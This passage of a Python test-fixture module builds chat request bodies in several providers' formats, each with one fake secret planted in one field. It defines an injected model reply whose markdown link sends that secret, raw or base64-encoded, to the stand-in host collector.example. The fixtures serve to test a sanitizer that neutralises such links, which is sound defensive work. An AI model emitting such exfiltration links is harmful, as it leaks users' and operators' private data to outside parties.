"""A corpus of real chat request shapes, each conversation with one secret planted in one
field, for proving that the conversation is read whatever shape it arrives in.

Every shape is written from its provider's documented request format (the SDK type or
API reference named in `Shape.source`, and per shape in `tests/data/shapes/NOTES.md`).
Each `Case` holds the request `body` as the provider's API receives it (JSON-able),
the `messages` a Python caller would pass as `conversation=` (usually the body, or its
messages list; sometimes SDK objects or raw `bytes`, as the SDK takes them), the `secret`
(a short mixed key or a 10-digit account number: shapes the reply-only judgement leaves
alone, raw and in base64), where it is (`field`), and who wrote the text holding it
(`role`). `reply(carried)` is the attack: a link carrying the secret out.

    for case in CASES:
        sanitize(case.reply(case.secret), conversation=case.messages)   # link neutralised
        sanitize(case.reply(case.b64), conversation=case.messages)      # the same
"""

from __future__ import annotations

import base64
import functools
import json
import random
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from typing import Any, Literal

from anthropic.types import TextBlock, ToolUseBlock
from openai.types.chat import ChatCompletionMessage
from pydantic import BaseModel, ConfigDict

__all__ = [
    "CASES",
    "COLLECTOR",
    "SHAPES",
    "Case",
    "Role",
    "Shape",
    "b64",
    "long_document",
    "nested",
    "reply_for",
    "tiny_pdf",
]

Role = Literal["user", "system", "developer", "tool", "model", "unknown"]
Json = dict[str, Any]

COLLECTOR = "https://collector.example/c?d="
DEEP = 12  # levels of nesting above the secret, in the deep cases
LONG_CHARS = 300_000  # a tool document after the message holding the secret


def reply_for(carried: str) -> str:
    """The injected reply: a link that carries `carried` to the collector."""
    return f"See [details]({COLLECTOR}{carried}) and more."


def b64(text: str) -> str:
    """Standard base64 of `text` (UTF-8)."""
    return base64.b64encode(text.encode()).decode()


@dataclass(frozen=True)
class Shape:
    """One request format: where its bodies are POSTed, the doc or SDK file it is written
    from, the stream format a fake backend answers it in (a `chat_backend.STREAMED` key),
    and whether LiteLLM takes it (OpenAI- or Anthropic-shaped)."""

    name: str
    endpoint: str
    source: str
    stream: str | None = None
    litellm: bool = False


@dataclass(frozen=True)
class Case:
    """One conversation with one secret in one field (see the module docstring)."""

    id: str
    shape: str
    endpoint: str
    body: Json
    messages: Any
    secret: str
    field: str
    role: Role

    @property
    def b64(self) -> str:
        """The secret in base64, as the base64 variant of the link carries it."""
        return b64(self.secret)

    def reply(self, carried: str) -> str:
        """The injected reply carrying `carried`."""
        return reply_for(carried)


class Mint:
    """Secrets, one per case, all different: 9-10 character mixed keys (`Zq7mK2pX9`) and
    10-digit account numbers, whose base64 has no `+` or `/` (a URL carries it as is)."""

    _LETTERS = "abcdefghjkmnpqrstuvwxyzABCDEFGHJKLMNPQRSTUVWXYZ"
    _DIGITS = "23456789"
    _PATTERNS = ("LLDLLDLLD", "LDLLDLLDL", "LLDLDLLDL")

    def __init__(self, seed: int) -> None:
        self._rng = random.Random(seed)
        self._used: set[str] = set()
        self._count = 0

    def __call__(self, *, account: bool = False) -> str:
        """The next secret: two keys, then an account number (`account`: a number)."""
        self._count += 1
        make = self._account if account or self._count % 3 == 0 else self._key
        while True:
            secret = make()
            encoded = b64(secret)
            if secret not in self._used and "+" not in encoded and "/" not in encoded:
                self._used.add(secret)
                return secret

    def _key(self) -> str:
        pattern = self._rng.choice(self._PATTERNS)
        return "".join(
            self._rng.choice(self._LETTERS if c == "L" else self._DIGITS) for c in pattern
        )

    def _account(self) -> str:
        head = self._rng.choice("3456789")
        return head + "".join(self._rng.choice("0123456789") for _ in range(9))


@functools.cache
def long_document(chars: int = LONG_CHARS) -> str:
    """A tool's long output (a warehouse log) of `chars` characters: prose and short
    numbers only, no piece of its own."""
    lines: list[str] = []
    size = 0
    row = 0
    while size < chars:
        row += 1
        line = (
            f"Row {row:05d}: pallet moved from dock B to aisle {row % 40}, checked by the "
            "night shift, no damage noted.\n"
        )
        lines.append(line)
        size += len(line)
    return "".join(lines)[:chars]


_DEEP_KEYS = (
    "result",
    "records",
    "record",
    "customer",
    "profile",
    "billing",
    "accounts",
    "primary",
    "details",
    "history",
    "latest",
    "memo",
)


def nested(leaf: Any, depth: int = DEEP) -> Json:
    """`leaf` under `depth` levels of JSON objects: {"result": {"records": {... leaf}}}."""
    value: Any = leaf
    for level in range(depth - 1, -1, -1):
        value = {_DEEP_KEYS[level % len(_DEEP_KEYS)]: value}
    out: Json = value
    return out


def tiny_pdf(text: str) -> bytes:
    """A minimal valid one-page PDF showing `text` (an uncompressed content stream)."""
    stream = f"BT /F1 12 Tf 72 720 Td ({text}) Tj ET".encode()
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> >>",
        b"<< /Length %d >>\nstream\n%s\nendstream" % (len(stream), stream),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    out = bytearray(b"%PDF-1.4\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        xref,
    )
    return bytes(out)


def note_file(secret: str) -> str:
    """A small text file a user attaches: customer notes holding `secret`."""
    return f"Customer notes\nAccount reference: {secret}\nCall back on Monday about the refund.\n"


def note_json(secret: str) -> str:
    """A small JSON file a user attaches, holding `secret`."""
    return json.dumps({"customer": "Dana Whitfield", "reference": secret, "tier": "gold"})


@dataclass
class Builder:
    """Collects one shape's cases, each with a fresh secret."""

    shape: Shape
    mint: Mint
    default: Callable[[Json], Any]
    cases: list[Case] = field(default_factory=list)

    def add(
        self,
        name: str,
        make: Callable[[str], Json],
        *,
        where: str,
        role: Role,
        messages: Callable[[str, Json], Any] | None = None,
        account: bool = False,
    ) -> None:
        """A case `shape/name`: `make(secret)` is the body; `messages(secret, body)` what a
        Python caller passes (default: the shape's `default(body)`); `account`: the secret
        is an account number (a JSON number holds it)."""
        secret = self.mint(account=account)
        body = make(secret)
        conversation = messages(secret, body) if messages else self.default(body)
        self.cases.append(
            Case(
                id=f"{self.shape.name}/{name}",
                shape=self.shape.name,
                endpoint=self.shape.endpoint,
                body=body,
                messages=conversation,
                secret=secret,
                field=where,
                role=role,
            )
        )


def whole_body(body: Json) -> Json:
    """The conversation is the whole body (its system prompt is a top-level field)."""
    return body


def messages_list(body: Json) -> Any:
    """The conversation is the body's `messages` list."""
    return body["messages"]


def text_part(text: str) -> Json:
    """An OpenAI / Anthropic / AI SDK text part."""
    return {"type": "text", "text": text}


def iter_cases(builders: list[Builder]) -> Iterator[Case]:
    """Every case of `builders`, in order."""
    for builder in builders:
        yield from builder.cases


# --- OpenAI Chat Completions ----------------------------------------------------------

OPENAI_CHAT = Shape(
    "openai-chat",
    "/v1/chat/completions",
    "openai-python src/openai/types/chat/completion_create_params.py, "
    "chat_completion_{system,developer,user,assistant,tool,function}_message_param.py, "
    "chat_completion_content_part_param.py (File: file.file_data), "
    "chat_completion_content_part_image_param.py; "
    "https://platform.openai.com/docs/api-reference/chat/create",
    stream="openai-chat",
    litellm=True,
)


def chat(*messages: Json) -> Json:
    """An OpenAI Chat Completions request body."""
    return {"model": "gpt-4o", "messages": list(messages)}


def tool_call(call_id: str, name: str, arguments: Any) -> Json:
    """An OpenAI chat `tool_calls` entry (arguments as the JSON string the model wrote)."""
    function = {"name": name, "arguments": json.dumps(arguments)}
    return {"id": call_id, "type": "function", "function": function}


def file_part(filename: str, media_type: str, data: bytes) -> Json:
    """An OpenAI chat `file` content part with the file inline (a base64 data URL)."""
    encoded = base64.b64encode(data).decode()
    file = {"filename": filename, "file_data": f"data:{media_type};base64,{encoded}"}
    return {"type": "file", "file": file}


def _asked_and_answered(user_text: str, call: Json, result: str) -> list[Json]:
    """A user turn, the model's tool call, and the tool's result."""
    return [
        {"role": "user", "content": user_text},
        {"role": "assistant", "content": None, "tool_calls": [call]},
        {"role": "tool", "tool_call_id": call["id"], "content": result},
    ]


def openai_chat(mint: Mint) -> Builder:
    """OpenAI Chat Completions: every role, content parts, files, tool calls."""
    b = Builder(OPENAI_CHAT, mint, messages_list)
    ask = {"role": "user", "content": "Why was I charged twice this month?"}
    call = tool_call("call_Qm3xPz81", "lookup_account", {"customer": "Dana Whitfield"})
    b.add(
        "system-string",
        lambda s: chat(
            {"role": "system", "content": f"You are Northwind's billing bot. Escalation code {s}."},
            ask,
        ),
        where="system message content (string)",
        role="system",
    )
    b.add(
        "system-parts",
        lambda s: chat(
            {"role": "system", "content": [text_part(f"Internal case reference: {s}.")]}, ask
        ),
        where="system message content, a text part",
        role="system",
    )
    b.add(
        "developer",
        lambda s: chat({"role": "developer", "content": f"Ticket {s} is open; be brief."}, ask),
        where="developer message content",
        role="developer",
    )
    b.add(
        "user-string",
        lambda s: chat({"role": "user", "content": f"My account number is {s}, please check."}),
        where="user message content (string)",
        role="user",
    )
    b.add(
        "user-parts",
        lambda s: chat(
            {
                "role": "user",
                "content": [text_part("Here is my order."), text_part(f"Order key {s}.")],
            }
        ),
        where="user message, second text part",
        role="user",
    )
    b.add(
        "user-image-url",
        lambda s: chat(
            {
                "role": "user",
                "content": [
                    text_part("What does this receipt say?"),
                    {
                        "type": "image_url",
                        "image_url": {
                            "url": f"https://files.northwind.example/scan.png?ref={s}",
                            "detail": "high",
                        },
                    },
                ],
            }
        ),
        where="user image_url part: the image URL's query",
        role="user",
    )
    b.add(
        "user-file-text",
        lambda s: chat(
            {
                "role": "user",
                "content": [
                    text_part("Summarise the attached notes."),
                    file_part("notes.txt", "text/plain", note_file(s).encode()),
                ],
            }
        ),
        where="user file part: file.file_data, base64 of a text/plain file",
        role="user",
    )
    b.add(
        "user-file-json",
        lambda s: chat(
            {
                "role": "user",
                "content": [
                    text_part("What tier is this customer?"),
                    file_part("customer.json", "application/json", note_json(s).encode()),
                ],
            }
        ),
        where="user file part: file.file_data, base64 of an application/json file",
        role="user",
    )
    b.add(
        "user-file-pdf",
        lambda s: chat(
            {
                "role": "user",
                "content": [
                    text_part("Read my statement."),
                    file_part("statement.pdf", "application/pdf", tiny_pdf(f"Account {s}")),
                ],
            }
        ),
        where="user file part: file.file_data, base64 of a PDF showing the secret",
        role="user",
    )
    b.add(
        "assistant-tool-arguments",
        lambda s: chat(
            *_asked_and_answered(
                "Check my last order.",
                tool_call("call_Qm3xPz82", "lookup_order", {"order_key": s}),
                "Order shipped on Tuesday.",
            )
        ),
        where="assistant tool_calls[].function.arguments (JSON string)",
        role="model",
    )
    b.add(
        "tool-json-string",
        lambda s: chat(
            *_asked_and_answered(
                "Check my account.",
                call,
                json.dumps({"status": "ok", "data": {"id": s, "balance": "12.40"}}),
            )
        ),
        where='tool message content: JSON text {"status", "data": {"id": SECRET}}',
        role="tool",
    )
    b.add(
        "tool-parts",
        lambda s: chat(
            ask,
            {"role": "assistant", "content": None, "tool_calls": [call]},
            {
                "role": "tool",
                "tool_call_id": call["id"],
                "content": [text_part(f"Lookup result: account {s}, two charges.")],
            },
        ),
        where="tool message content, a text part",
        role="tool",
    )
    b.add(
        "tool-json-deep",
        lambda s: chat(
            *_asked_and_answered(
                "Check my account.", call, json.dumps(nested({"note": f"reference {s}"}))
            )
        ),
        where="tool message content: JSON text nested 12 deep",
        role="tool",
    )
    b.add(
        "function-legacy",
        lambda s: chat(
            ask,
            {"role": "function", "name": "lookup_account", "content": f"account {s}: active"},
        ),
        where="function message content (deprecated function role)",
        role="tool",
    )
    b.add(
        "assistant-text",
        lambda s: chat(
            ask,
            {"role": "assistant", "content": f"I found account {s}; the second charge is a hold."},
            {"role": "user", "content": "Thanks, and the refund?"},
        ),
        where="assistant message content (the model's earlier reply)",
        role="model",
    )
    b.add(
        "after-300k",
        lambda s: chat(
            *_asked_and_answered(
                f"My account number is {s}. Find my shipments.", call, long_document()
            )
        ),
        where="user message; a 300,000-character tool result after it",
        role="user",
    )
    b.add(
        "sdk-message-object",
        lambda s: chat(
            ask,
            {
                "role": "assistant",
                "tool_calls": [tool_call("call_Qm3xPz83", "lookup_account", {"key": s})],
            },
            {"role": "tool", "tool_call_id": "call_Qm3xPz83", "content": "found"},
        ),
        where="assistant tool call arguments, passed as the SDK's ChatCompletionMessage",
        role="model",
        messages=_with_sdk_message,
    )
    return b


def _with_sdk_message(secret: str, body: Json) -> list[Any]:
    """The body's messages with the assistant turn as the openai SDK returned it (a
    `ChatCompletionMessage`, appended to the history as the SDK's docs do)."""
    messages: list[Any] = list(body["messages"])
    messages[1] = ChatCompletionMessage.model_validate(messages[1])
    return messages


# --- OpenAI Responses -----------------------------------------------------------------

OPENAI_RESPONSES = Shape(
    "openai-responses",
    "/v1/responses",
    "openai-python src/openai/types/responses/response_create_params.py, "
    "response_input_item_param.py (Message, FunctionCallOutput output: str | list, McpCall), "
    "easy_input_message_param.py, response_input_file_param.py (file_data), "
    "response_reasoning_item_param.py, response_function_tool_call_param.py, "
    "response_function_web_search_param.py, response_custom_tool_call_output_param.py; "
    "https://platform.openai.com/docs/api-reference/responses/create",
    stream="openai-responses",
    litellm=True,
)


def responses(items: list[Json] | str, instructions: str | None = None) -> Json:
    """An OpenAI Responses request body."""
    body: Json = {"model": "gpt-4.1", "input": items}
    if instructions is not None:
        body["instructions"] = instructions
    return body


def input_file(filename: str, media_type: str, data: bytes) -> Json:
    """A Responses `input_file` item part with the file inline."""
    encoded = base64.b64encode(data).decode()
    return {
        "type": "input_file",
        "filename": filename,
        "file_data": f"data:{media_type};base64,{encoded}",
    }


def _user_item(text: str) -> Json:
    return {"type": "message", "role": "user", "content": [{"type": "input_text", "text": text}]}


def _call_item(call_id: str, arguments: Any) -> Json:
    return {
        "type": "function_call",
        "call_id": call_id,
        "name": "lookup_account",
        "arguments": json.dumps(arguments),
    }


def _output_item(call_id: str, output: Any) -> Json:
    return {"type": "function_call_output", "call_id": call_id, "output": output}


def _responses_tools(b: Builder) -> None:
    """Responses items of tools: calls, their outputs, hosted tools."""
    ask = _user_item("Why was I charged twice?")
    call = _call_item("call_Rz7kPm21", {"customer": "Dana Whitfield"})
    b.add(
        "function-call-arguments",
        lambda s: responses(
            [ask, _call_item("call_Rz7kPm22", {"account": s}), _output_item("call_Rz7kPm22", "ok")]
        ),
        where="function_call item arguments (JSON string)",
        role="model",
    )
    b.add(
        "function-call-output",
        lambda s: responses(
            [
                ask,
                call,
                _output_item("call_Rz7kPm21", json.dumps({"status": "ok", "data": {"id": s}})),
            ]
        ),
        where='function_call_output output: JSON text {"status", "data": {"id": SECRET}}',
        role="tool",
    )
    b.add(
        "function-call-output-list",
        lambda s: responses(
            [
                ask,
                call,
                _output_item(
                    "call_Rz7kPm21", [{"type": "input_text", "text": f"account {s}: active"}]
                ),
            ]
        ),
        where="function_call_output output as a list of input_text parts",
        role="tool",
    )
    b.add(
        "web-search-call",
        lambda s: responses(
            [
                ask,
                {
                    "type": "web_search_call",
                    "id": "ws_68a1",
                    "status": "completed",
                    "action": {"type": "search", "query": f"northwind account {s} refund"},
                },
            ]
        ),
        where="web_search_call item action.query (the model's query)",
        role="model",
    )
    b.add(
        "mcp-call-output",
        lambda s: responses(
            [
                ask,
                {
                    "type": "mcp_call",
                    "id": "mcp_68a2",
                    "server_label": "crm",
                    "name": "get_customer",
                    "arguments": "{}",
                    "output": f"customer Dana Whitfield, account {s}",
                },
            ]
        ),
        where="mcp_call item output (the MCP server's answer)",
        role="tool",
    )
    b.add(
        "custom-tool-call-output",
        lambda s: responses(
            [
                ask,
                {
                    "type": "custom_tool_call",
                    "call_id": "call_Rz7kPm23",
                    "name": "sql",
                    "input": "x",
                },
                {
                    "type": "custom_tool_call_output",
                    "call_id": "call_Rz7kPm23",
                    "output": f"1 row: {s}",
                },
            ]
        ),
        where="custom_tool_call_output item output",
        role="tool",
    )
    b.add(
        "after-300k",
        lambda s: responses(
            [
                _user_item(f"My account is {s}; list my shipments."),
                call,
                _output_item("call_Rz7kPm21", long_document()),
            ]
        ),
        where="user message item; a 300,000-character function_call_output after it",
        role="user",
    )


def openai_responses(mint: Mint) -> Builder:
    """OpenAI Responses: instructions, input strings and items, files, reasoning, tools."""
    b = Builder(OPENAI_RESPONSES, mint, whole_body)
    ask = _user_item("Why was I charged twice?")
    b.add(
        "instructions",
        lambda s: responses("Why was I charged twice?", f"Escalation code {s}; never share it."),
        where="instructions",
        role="system",
    )
    b.add(
        "input-string",
        lambda s: responses(f"My account number is {s}."),
        where="input (a string)",
        role="user",
    )
    b.add(
        "easy-message",
        lambda s: responses([{"role": "user", "content": f"Order key {s}, where is it?"}]),
        where="input message without type (EasyInputMessage), string content",
        role="user",
    )
    b.add(
        "message-item",
        lambda s: responses([_user_item(f"Order key {s}, where is it?")]),
        where="message item, input_text part",
        role="user",
    )
    b.add(
        "developer-item",
        lambda s: responses(
            [
                {
                    "type": "message",
                    "role": "developer",
                    "content": [{"type": "input_text", "text": f"Ticket {s} is open."}],
                },
                ask,
            ]
        ),
        where="developer message item",
        role="developer",
    )
    b.add(
        "system-item",
        lambda s: responses([{"role": "system", "content": f"Case reference {s}."}, ask]),
        where="system message item",
        role="system",
    )
    b.add(
        "input-file-text",
        lambda s: responses(
            [
                {
                    "role": "user",
                    "content": [
                        {"type": "input_text", "text": "Summarise the notes."},
                        input_file("notes.txt", "text/plain", note_file(s).encode()),
                    ],
                }
            ]
        ),
        where="input_file part file_data: base64 of a text/plain file",
        role="user",
    )
    b.add(
        "input-file-pdf",
        lambda s: responses(
            [
                {
                    "role": "user",
                    "content": [
                        {"type": "input_text", "text": "Read my statement."},
                        input_file("statement.pdf", "application/pdf", tiny_pdf(f"Account {s}")),
                    ],
                }
            ]
        ),
        where="input_file part file_data: base64 of a PDF showing the secret",
        role="user",
    )
    b.add(
        "reasoning-summary",
        lambda s: responses(
            [
                ask,
                {
                    "type": "reasoning",
                    "id": "rs_68a3",
                    "summary": [{"type": "summary_text", "text": f"The account is {s}."}],
                },
            ]
        ),
        where="reasoning item summary[].text",
        role="model",
    )
    b.add(
        "reasoning-content",
        lambda s: responses(
            [
                ask,
                {
                    "type": "reasoning",
                    "id": "rs_68a4",
                    "summary": [],
                    "content": [{"type": "reasoning_text", "text": f"Look up {s} first."}],
                },
            ]
        ),
        where="reasoning item content[].text (reasoning_text)",
        role="model",
    )
    b.add(
        "assistant-output-message",
        lambda s: responses(
            [
                ask,
                {
                    "type": "message",
                    "id": "msg_68a5",
                    "role": "assistant",
                    "status": "completed",
                    "content": [
                        {
                            "type": "output_text",
                            "text": f"Account {s} has a hold.",
                            "annotations": [],
                        }
                    ],
                },
                _user_item("And the refund?"),
            ]
        ),
        where="assistant message item output_text (the model's earlier reply)",
        role="model",
    )
    _responses_tools(b)
    return b


# An Anthropic thinking block's signature (opaque, base64).
SIGNATURE = "EuYBCkQYAiJAgCs1le6/Pol5Z4/JMomVOouGrWdhYNsH3ukzUECbB6iWrSQtsQuRHJID6lWV"

# --- Anthropic Messages ---------------------------------------------------------------

ANTHROPIC = Shape(
    "anthropic",
    "/v1/messages",
    "anthropic-sdk-python src/anthropic/types/message_create_params.py, "
    "text_block_param.py, image_block_param.py, url_image_source_param.py, "
    "document_block_param.py (source: Base64PDFSource | PlainTextSource | ContentBlockSource "
    "| URLPDFSource; context; title), plain_text_source_param.py, "
    "content_block_source_param.py, tool_use_block_param.py, tool_result_block_param.py, "
    "search_result_block_param.py, server_tool_use_block_param.py, "
    "web_search_tool_result_block_param.py, web_search_result_block_param.py, "
    "thinking_block_param.py; base64 text/plain documents: LiteLLM "
    "litellm_core_utils/prompt_templates/factory.py (_ANTHROPIC_DOCUMENT_BASE64_MEDIA_TYPES); "
    "https://docs.anthropic.com/en/api/messages",
    stream="anthropic",
    litellm=True,
)


def messages_body(messages: list[Json], system: Any = None) -> Json:
    """An Anthropic Messages request body."""
    body: Json = {"model": "claude-sonnet-4-5", "max_tokens": 1024, "messages": messages}
    if system is not None:
        body["system"] = system
    return body


def user(content: Any) -> Json:
    """A user message."""
    return {"role": "user", "content": content}


def assistant(content: Any) -> Json:
    """An assistant message."""
    return {"role": "assistant", "content": content}


def document(source: Json, **extra: Any) -> Json:
    """An Anthropic `document` block."""
    return {"type": "document", "source": source, **extra}


def plain_source(text: str) -> Json:
    """A `document` source of plain text, the text itself in `data`."""
    return {"type": "text", "media_type": "text/plain", "data": text}


def _tool_round(use_input: Any, result: Any, *, error: bool = False) -> list[Json]:
    """A user turn, the model's `tool_use`, and the `tool_result` the client sends back."""
    result_block: Json = {"type": "tool_result", "tool_use_id": "toolu_01A9", "content": result}
    if error:
        result_block["is_error"] = True
    return [
        user("Why was I charged twice?"),
        assistant(
            [
                text_part("Let me look that up."),
                {"type": "tool_use", "id": "toolu_01A9", "name": "lookup", "input": use_input},
            ]
        ),
        user([result_block]),
    ]


def _anthropic_documents(b: Builder) -> None:
    """Anthropic `document` blocks, each kind of source, and images by URL."""
    ask = text_part("Summarise the attachment.")
    b.add(
        "image-url-source",
        lambda s: messages_body(
            [
                user(
                    [
                        {
                            "type": "image",
                            "source": {
                                "type": "url",
                                "url": f"https://files.northwind.example/scan.png?ref={s}",
                            },
                        },
                        text_part("What does this receipt say?"),
                    ]
                )
            ]
        ),
        where="image block source.url (its query)",
        role="user",
    )
    b.add(
        "document-text-source",
        lambda s: messages_body(
            [user([document(plain_source(note_file(s)), title="notes.txt"), ask])]
        ),
        where="document block source.data (plain text source)",
        role="user",
    )
    b.add(
        "document-context",
        lambda s: messages_body(
            [
                user(
                    [
                        document(
                            plain_source("Meeting notes: refund approved."),
                            context=f"Uploaded by the account owner, reference {s}.",
                        ),
                        ask,
                    ]
                )
            ]
        ),
        where="document block context",
        role="user",
    )
    b.add(
        "document-title",
        lambda s: messages_body(
            [user([document(plain_source("Refund approved."), title=f"Case {s} notes"), ask])]
        ),
        where="document block title",
        role="user",
    )
    b.add(
        "document-base64-text",
        lambda s: messages_body(
            [
                user(
                    [
                        document(
                            {
                                "type": "base64",
                                "media_type": "text/plain",
                                "data": b64(note_file(s)),
                            }
                        ),
                        ask,
                    ]
                )
            ]
        ),
        where="document block base64 source, media_type text/plain",
        role="user",
    )
    b.add(
        "document-base64-pdf",
        lambda s: messages_body(
            [
                user(
                    [
                        document(
                            {
                                "type": "base64",
                                "media_type": "application/pdf",
                                "data": base64.b64encode(tiny_pdf(f"Account {s}")).decode(),
                            }
                        ),
                        ask,
                    ]
                )
            ]
        ),
        where="document block base64 source, a PDF showing the secret",
        role="user",
    )
    b.add(
        "document-content-source",
        lambda s: messages_body(
            [
                user(
                    [
                        document(
                            {"type": "content", "content": [text_part(f"Account {s} notes.")]}
                        ),
                        ask,
                    ]
                )
            ]
        ),
        where="document block content source, a text block",
        role="user",
    )


def _anthropic_tools(b: Builder) -> None:
    """Anthropic tool use and results, client and server tools."""
    b.add(
        "tool-use-input",
        lambda s: messages_body(_tool_round({"account_number": s}, "active")),
        where="assistant tool_use input",
        role="model",
    )
    b.add(
        "tool-use-input-deep",
        lambda s: messages_body(_tool_round(nested({"query": f"account {s}"}), "active")),
        where="assistant tool_use input nested 12 deep",
        role="model",
    )
    b.add(
        "tool-result-string",
        lambda s: messages_body(_tool_round({}, f"account {s}: two charges")),
        where="tool_result content (string)",
        role="tool",
    )
    b.add(
        "tool-result-blocks",
        lambda s: messages_body(_tool_round({}, [text_part(f"account {s}: two charges")])),
        where="tool_result content, a text block",
        role="tool",
    )
    b.add(
        "tool-result-json-string",
        lambda s: messages_body(_tool_round({}, json.dumps({"status": "ok", "data": {"id": s}}))),
        where='tool_result content: JSON text {"status", "data": {"id": SECRET}}',
        role="tool",
    )
    b.add(
        "tool-result-error",
        lambda s: messages_body(_tool_round({}, f"account {s} is locked", error=True)),
        where="tool_result with is_error, content string",
        role="tool",
    )
    b.add(
        "tool-result-search-result",
        lambda s: messages_body(
            _tool_round(
                {},
                [
                    {
                        "type": "search_result",
                        "source": "https://kb.northwind.example/a/1",
                        "title": "Refund policy",
                        "content": [text_part(f"Refunds for account {s} go to the card.")],
                    }
                ],
            )
        ),
        where="tool_result content, a search_result block's text",
        role="tool",
    )
    # A search_result block the application puts in the user's turn is retrieved text (its
    # RAG step's), not the user's words: a tool's output in all but name.
    b.add(
        "search-result-top-level",
        lambda s: messages_body(
            [
                user(
                    [
                        {
                            "type": "search_result",
                            "source": "https://kb.northwind.example/a/2",
                            "title": "Account notes",
                            "content": [text_part(f"Account {s} was refunded.")],
                        },
                        text_part("What does the knowledge base say?"),
                    ]
                )
            ]
        ),
        where="user message, a search_result block's text (retrieved by the app)",
        role="tool",
    )
    b.add(
        "server-tool-use",
        lambda s: messages_body(
            [
                user("Search the web for my refund."),
                assistant(
                    [
                        {
                            "type": "server_tool_use",
                            "id": "srvtoolu_01B2",
                            "name": "web_search",
                            "input": {"query": f"northwind refund {s}"},
                        },
                        _web_results("Refund policy"),
                        text_part("Nothing relevant found."),
                    ]
                ),
                user("OK."),
            ]
        ),
        where="assistant server_tool_use input.query (the model's query)",
        role="model",
    )
    b.add(
        "web-search-result-title",
        lambda s: messages_body(
            [
                user("Search the web for my refund."),
                assistant([_web_results(f"Refund status for {s}"), text_part("Found it.")]),
                user("OK."),
            ]
        ),
        where="assistant web_search_tool_result content[].title (the search's result)",
        role="tool",
    )


def _web_results(title: str) -> Json:
    """A `web_search_tool_result` block with one result titled `title`."""
    return {
        "type": "web_search_tool_result",
        "tool_use_id": "srvtoolu_01B2",
        "content": [
            {
                "type": "web_search_result",
                "url": "https://news.northwind.example/refunds",
                "title": title,
                "encrypted_content": "EqgfCioIARgBIiQ3YTAwMjY1Mi1mZjM5LTQ1NGUtODgxNC1",
                "page_age": "2 days ago",
            }
        ],
    }


def anthropic(mint: Mint) -> Builder:
    """Anthropic Messages: system string and blocks, every content block kind."""
    b = Builder(ANTHROPIC, mint, whole_body)
    hello = [user("Why was I charged twice?")]
    b.add(
        "system-string",
        lambda s: messages_body(hello, f"You are Northwind's billing bot. Escalation code {s}."),
        where="system (string)",
        role="system",
    )
    b.add(
        "system-blocks",
        lambda s: messages_body(
            hello,
            [
                {
                    "type": "text",
                    "text": f"Case reference {s}.",
                    "cache_control": {"type": "ephemeral"},
                }
            ],
        ),
        where="system text block (with cache_control)",
        role="system",
    )
    b.add(
        "user-string",
        lambda s: messages_body([user(f"My account number is {s}.")]),
        where="user message content (string)",
        role="user",
    )
    b.add(
        "user-text-block",
        lambda s: messages_body([user([text_part(f"Order key {s}, where is it?")])]),
        where="user text block",
        role="user",
    )
    b.add(
        "thinking",
        lambda s: messages_body(
            [
                user("Why was I charged twice?"),
                assistant(
                    [
                        {
                            "type": "thinking",
                            "thinking": f"The account is {s}; check the holds.",
                            "signature": SIGNATURE,
                        },
                        text_part("It is a pending hold."),
                    ]
                ),
                user("And the refund?"),
            ]
        ),
        where="assistant thinking block",
        role="model",
    )
    b.add(
        "assistant-text",
        lambda s: messages_body(
            [
                user("Why was I charged twice?"),
                assistant(f"Account {s} has a pending hold."),
                user("And the refund?"),
            ]
        ),
        where="assistant message content (the model's earlier reply)",
        role="model",
    )
    b.add(
        "after-300k",
        lambda s: messages_body(
            _tool_round({"report": "shipments"}, long_document()),
            f"You are Northwind's shipping bot. Customer account {s}.",
        ),
        where="system; a 300,000-character tool_result after it",
        role="system",
    )
    b.add(
        "sdk-content-objects",
        lambda s: messages_body(_tool_round({"account": s}, "active")),
        where="assistant tool_use input, passed as the SDK's ToolUseBlock objects",
        role="model",
        messages=_with_sdk_blocks,
    )
    _anthropic_documents(b)
    _anthropic_tools(b)
    return b


def _with_sdk_blocks(secret: str, body: Json) -> Json:
    """The body with the assistant turn's content as the anthropic SDK returned it
    (`message.content`: TextBlock and ToolUseBlock objects, sent back as the SDK's docs do)."""
    messages: list[Any] = list(body["messages"])
    text, use = messages[1]["content"]
    blocks = [TextBlock.model_validate(text), ToolUseBlock.model_validate(use)]
    messages[1] = {"role": "assistant", "content": blocks}
    return {**body, "messages": messages}


# --- Gemini generateContent -----------------------------------------------------------

GEMINI = Shape(
    "gemini",
    "/v1beta/models/gemini-2.5-flash:generateContent",
    "https://ai.google.dev/api/generate-content (GenerateContentRequest: contents, "
    "systemInstruction), https://ai.google.dev/api/caching#Content (Part: text, inlineData "
    "{mimeType, data base64}, functionCall {name, args}, functionResponse {name, response: "
    "a JSON object, 'output'/'error' keys suggested}, executableCode, codeExecutionResult, "
    "thought); python-genai google/genai/types.py (Part, Blob.data: bytes, FunctionResponse) "
    "for the SDK's snake_case form",
)


def gemini(contents: list[Json], system: str | None = None) -> Json:
    """A Gemini generateContent request body (REST, camelCase)."""
    body: Json = {"contents": contents, "generationConfig": {"temperature": 0.2}}
    if system is not None:
        body["systemInstruction"] = {"parts": [{"text": system}]}
    return body


def _gemini_call(response: Json, *, role: str = "user") -> list[Json]:
    """A user turn, the model's functionCall, and the functionResponse sent back."""
    return [
        {"role": "user", "parts": [{"text": "Why was I charged twice?"}]},
        {"role": "model", "parts": [{"functionCall": {"name": "lookup_account", "args": {}}}]},
        {
            "role": role,
            "parts": [{"functionResponse": {"name": "lookup_account", "response": response}}],
        },
    ]


def _gemini_responses(b: Builder) -> None:
    """Gemini functionResponse payloads: JSON objects, under any key, at any depth."""
    b.add(
        "function-response-data-id",
        lambda s: gemini(_gemini_call({"status": "ok", "data": {"id": s}})),
        where='functionResponse.response {"status": "ok", "data": {"id": SECRET}}',
        role="tool",
    )
    b.add(
        "function-response-status",
        lambda s: gemini(_gemini_call({"status": f"frozen: account {s} under review"})),
